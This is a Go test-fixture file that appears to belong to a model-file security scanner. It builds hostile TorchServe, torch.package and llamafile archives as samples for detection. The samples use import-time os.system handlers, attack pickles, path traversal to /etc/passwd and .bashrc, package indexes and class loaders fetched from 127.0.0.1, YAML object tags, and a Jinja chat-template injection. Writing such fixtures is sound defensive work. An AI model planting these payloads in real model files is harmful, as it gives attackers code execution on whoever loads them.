package hostile

import (
	"strings"

	"github.com/picketsec/picket/internal/testkit/rawzip"
)

// torchServe makes an archive of TorchServe from its manifest and other members, as name and content in turn.
func torchServe(id, extension, technique, manifest string, members ...string) Sample {
	entries := []rawzip.Entry{{Name: "MAR-INF/MANIFEST.json", Data: []byte(manifest), Method: rawzip.Deflate}}
	for i := 0; i < len(members); i += 2 {
		entries = append(entries, rawzip.Entry{Name: members[i], Data: []byte(members[i+1]), Method: rawzip.Deflate})
	}
	return Sample{Name: "torchserve-" + id + extension, Group: "torchserve", Technique: technique, Loader: "torchserve",
		Build: rawzip.Archive{Entries: entries}.Bytes}
}

// handler is a handler for TorchServe that runs a command when it is imported.
const handler = "import os\nos.system('echo " + Marker + "')\n\ndef handle(data, context):\n    return [1]\n"

// torchServeSamples are archives of TorchServe.
func torchServeSamples() []Sample {
	model := func(fields string) string {
		return `{"createdOn":"01/01/2026","runtime":"python","model":{"modelName":"m","modelVersion":"1.0",` + fields + `},"archiverVersion":"0.12.0"}`
	}
	const plain = `"handler":"image_classifier"`
	return []Sample{
		torchServe("handler", ".mar", "the handler runs a command when it is imported", model(`"handler":"handler.py:handle"`), "handler.py", handler),
		torchServe("handler-without-extension", ".mar", "the handler does not look like Python at its start", model(`"handler":"handler"`), "handler",
			"1\n"+handler, "handler.py", "x = 1\n"+handler),
		torchServe("model-file", ".mar", "the file of the model's class runs a command", model(plain+`,"modelFile":"model.py"`), "model.py", handler),
		torchServe("pickle", ".mar", "the weights are a pickle with the attack", model(plain+`,"serializedFile":"m.pt"`), "m.pt", string(attackPickle())),
		torchServe("handler-outside", ".mar", "the handler is a file of the server's machine", model(`"handler":"../../../../tmp/handler.py"`)),
		torchServe("weights-absolute", ".mar", "the weights are a file of the server's machine", model(plain+`,"serializedFile":"/etc/passwd"`)),
		torchServe("extra-address", ".mar", "an extra file is an address", model(plain+`,"extraFiles":"http://127.0.0.1/x.py"`)),
		torchServe("two-handlers", ".mar", "two handlers of one name in the manifest", model(`"handler":"image_classifier","handler":"handler.py"`), "handler.py", handler),
		torchServe("index", ".mar", "packages from the attacker's index", model(plain+`,"requirementsFile":"requirements.txt"`), "requirements.txt",
			"torch\n--extra-index-url http://127.0.0.1:9/simple\n"),
		torchServe("package-address", ".mar", "a package from an address", model(plain+`,"requirementsFile":"requirements.txt"`), "requirements.txt",
			"evil @ git+http://127.0.0.1/evil.git\n"),
		torchServe("package-outside", ".mar", "a package from outside of the archive", model(plain+`,"requirementsFile":"requirements.txt"`), "requirements.txt",
			"-e /tmp/evil\n"),
		torchServe("shelltorch", ".war", "CVE-2022-1471, ShellTorch: a workflow that makes objects of Java", `{"workflow":{"workflowName":"w","specFile":"w.yaml"}}`,
			"w.yaml", "models: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:9/\"]]]]\n"),
		torchServe("config-tag", ".mar", "a configuration that makes objects of Python", model(plain+`,"configFile":"model-config.yaml"`),
			"model-config.yaml", "handler: !!python/object/apply:os.system ['echo "+Marker+"']\n"),
		torchServe("broken-manifest", ".mar", "a manifest that only some parsers read", `{"model":{"handler":"image_classifier",}`),
	}
}

// torchPackageSamples are archives of torch.package.
func torchPackageSamples() []Sample {
	pack := func(id, technique, externs string, members ...string) Sample {
		entries := []rawzip.Entry{{Name: "p/.data/extern_modules", Data: []byte(externs)}, {Name: "p/.data/version", Data: []byte("6\n")}}
		for i := 0; i < len(members); i += 2 {
			entries = append(entries, rawzip.Entry{Name: members[i], Data: []byte(members[i+1])})
		}
		return Sample{Name: "torch-package-" + id + ".pt", Group: "torch-package", Technique: technique, Loader: "torch.package",
			Build: rawzip.Archive{Entries: entries}.Bytes}
	}
	return []Sample{
		pack("pickle", "a pickle of the package runs a command", "torch\n", "p/model/model.pkl", string(attackPickle())),
		pack("source", "a module of the package runs a command", "torch\nos\n", "p/model/model.pkl", string(honestPickle()), "p/m.py", handler),
		pack("source-odd", "a module that does not look like Python at its start", "torch\n", "p/m.py", "1\n"+handler),
	}
}

// llamafileSamples are programs that carry a model.
func llamafileSamples() []Sample {
	portable := "MZqFpD='\n\n" + strings.Repeat("\x00", 200)
	file := func(id, technique, prefix, args string, more ...rawzip.Entry) Sample {
		entries := append([]rawzip.Entry{{Name: ".args", Data: []byte(args)}}, more...)
		return Sample{Name: "llamafile-" + id + ".llamafile", Group: "llamafile", Technique: technique, Loader: "llamafile",
			Build: rawzip.Archive{Prefix: []byte(prefix), Entries: entries}.Bytes}
	}
	poisoned := head(3, 0, 2).pair("general.architecture", "llama").pair("tokenizer.chat_template",
		"{{ cycler.__init__.__globals__.os.popen('echo "+Marker+"').read() }}").end(nil)
	return []Sample{
		file("plain", "a model in a program", portable, "-m\nmodel.gguf\n..."),
		file("sandbox", "arguments that switch the sandbox off", portable, "-m\nmodel.gguf\n--unsecure\n"),
		file("path", "arguments that have the program read a file of the user", portable, "-m\nmodel.gguf\n--path\n/home\n"),
		file("write", "arguments that have the program write outside of the archive", portable, "--log-file\n../../../.bashrc\n"),
		file("remote", "arguments that fetch another model", portable, "--model-url\nhttp://127.0.0.1/x.gguf\n"),
		file("rpc", "arguments that compute on another machine", portable, "-m\nmodel.gguf\n--rpc\n127.0.0.1:50052\n"),
		file("listens", "arguments that serve the model to everybody", portable, "--host\n0.0.0.0\n"),
		file("template", "CVE-2024-34359 in the model that a program carries", portable, "-m\nm.gguf\n", rawzip.Entry{Name: "m.gguf", Data: poisoned}),
		file("pickle", "a pickle in a program", portable, "", rawzip.Entry{Name: "x.pkl", Data: attackPickle()}),
		file("elf", "a model in a program for Linux", "\x7fELF\x02\x01\x01"+strings.Repeat("\x00", 57), "-m\nmodel.gguf\n"),
	}
}
